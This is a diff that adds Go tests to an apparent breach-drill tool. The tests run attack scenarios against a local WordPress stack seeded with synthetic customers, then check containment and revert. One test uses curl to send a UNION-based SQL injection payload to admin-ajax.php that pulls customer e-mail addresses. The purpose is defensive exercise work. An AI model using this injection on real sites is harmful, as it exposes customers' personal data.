@@ -1,0 +1,154 @@
+package scenarios_test
+
+import (
+	"bytes"
+	"context"
+	"os/exec"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/breachdrill/breachdrill/containers"
+	"github.com/breachdrill/breachdrill/fakedata"
+	"github.com/breachdrill/breachdrill/internal/stacktest"
+	"github.com/breachdrill/breachdrill/scenarios"
+)
+
+// seededStack starts a stack with a small synthetic dataset as its reset
+// point, and returns the dataset's manifest.
+func seededStack(t *testing.T) (*containers.Stack, fakedata.Manifest, *fakedata.Dataset) {
+	t.Helper()
+	s := stacktest.Start(t)
+	ctx := context.Background()
+	ds, err := fakedata.New(fakedata.Spec{Seed: 7, Customers: 200, Orders: 400})
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, err := fakedata.Load(ctx, s.DB(), ds)
+	if err != nil {
+		t.Fatalf("seed: %v", err)
+	}
+	if err := s.Snapshot(ctx); err != nil {
+		t.Fatal(err)
+	}
+	return s, m, ds
+}
+
+// Every shipped scenario, for real: the inject's own want_status/want_body
+// assertions prove the attack worked from outside; every containment check
+// fails after the inject and passes after the response; and after revert
+// the stack is back at its reset point.
+func TestEveryScenarioAgainstARealStack(t *testing.T) {
+	stack, manifest, ds := seededStack(t)
+	cat, err := scenarios.Builtin()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var cards []string
+	for i := 0; len(cards) < 20 && i < 200; i++ {
+		for _, c := range ds.Customer(i).Cards {
+			cards = append(cards, c.Number())
+		}
+	}
+	for _, s := range cat.All() {
+		t.Run(s.ID, func(t *testing.T) {
+			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
+			defer cancel()
+			env := scenarios.NewEnv(stack, s.Artifacts)
+			env.Cards = func(n int) []string { return cards[:n] }
+			var leaked [][]byte
+			env.Leaked = func(_ string, body []byte) { leaked = append(leaked, body) }
+			defer func() {
+				for _, st := range s.Revert {
+					if err := st.Do.Run(ctx, env); err != nil {
+						t.Errorf("revert %s: %v", st.Action, err)
+					}
+				}
+				if _, err := stack.Reset(ctx); err != nil {
+					t.Fatalf("reset: %v", err)
+				}
+				diffs, err := stack.VerifyReset(ctx)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if len(diffs) > 0 {
+					t.Errorf("after revert the stack differs from its reset point: %v", diffs)
+				}
+			}()
+
+			for _, st := range s.Inject {
+				if err := st.Do.Run(ctx, env); err != nil {
+					t.Fatalf("inject %s (line %d): %v", st.Action, st.Line, err)
+				}
+			}
+			for _, c := range s.Verify {
+				res, err := c.Probe.Check(ctx, env)
+				if err != nil {
+					t.Fatalf("check %s: %v", c.Kind, err)
+				}
+				if res.Pass {
+					t.Errorf("check %q passes before the response (%s): it proves nothing", c.Probe.Describe(), res.Detail)
+				}
+			}
+			for _, st := range s.Respond {
+				if err := st.Do.Run(ctx, env); err != nil {
+					t.Fatalf("respond %s (line %d): %v", st.Action, st.Line, err)
+				}
+			}
+			for _, c := range s.Verify {
+				res, err := c.Probe.Check(ctx, env)
+				if err != nil {
+					t.Fatalf("check %s: %v", c.Kind, err)
+				}
+				if !res.Pass {
+					t.Errorf("check %q fails after the response: %s", c.Probe.Describe(), res.Detail)
+				}
+			}
+			// What the attacker took carries the seeded customers.
+			if s.PersonalData() && len(leaked) > 0 {
+				sc := fakedata.NewScanner(manifest.Canaries)
+				records := int64(0)
+				for _, b := range leaked {
+					records += sc.ScanBytes(b).Records
+				}
+				if records == 0 {
+					t.Errorf("the leaked data holds no personal data records")
+				}
+			}
+		})
+	}
+}
+
+// The SQL injection, replayed by hand with curl against the vulnerable
+// endpoint, returns seeded customers' e-mail addresses: a canary proves
+// which records leaked.
+func TestSQLInjectionReplayedWithCurl(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Fatal("curl is needed for this test: apt-get install curl")
+	}
+	stack, manifest, _ := seededStack(t)
+	cat, _ := scenarios.Builtin()
+	s, _ := cat.Get("ajax-sqli-exfiltration")
+	ctx := context.Background()
+	env := scenarios.NewEnv(stack, s.Artifacts)
+	for _, st := range s.Inject[:2] { // install and activate the vulnerable plugin
+		if err := st.Do.Run(ctx, env); err != nil {
+			t.Fatal(err)
+		}
+	}
+	out, err := exec.Command("curl", "-sS", "--max-time", "30",
+		"--data-urlencode", "action=acme_order_status",
+		"--data-urlencode", "order=0 UNION ALL SELECT c.customer_id, c.email, c.last_name FROM wp_wc_customer_lookup c",
+		stack.URL()+"/wp-admin/admin-ajax.php").CombinedOutput()
+	if err != nil {
+		t.Fatalf("curl: %v\n%s", err, out)
+	}
+	rep := fakedata.NewScanner(manifest.Canaries).ScanBytes(out)
+	if len(rep.Canaries) == 0 {
+		t.Fatalf("no canary in the injection's answer (%d bytes): %.300s", len(out), out)
+	}
+	if !bytes.Contains(out, []byte(manifest.Canaries[0].Email)) && !strings.Contains(string(out), "@example") {
+		t.Fatal("no seeded e-mail address in the answer")
+	}
+	t.Logf("curl replay returned %d bytes with %d canaries (%d data subjects)", len(out), len(rep.Canaries), rep.Subjects)
+}
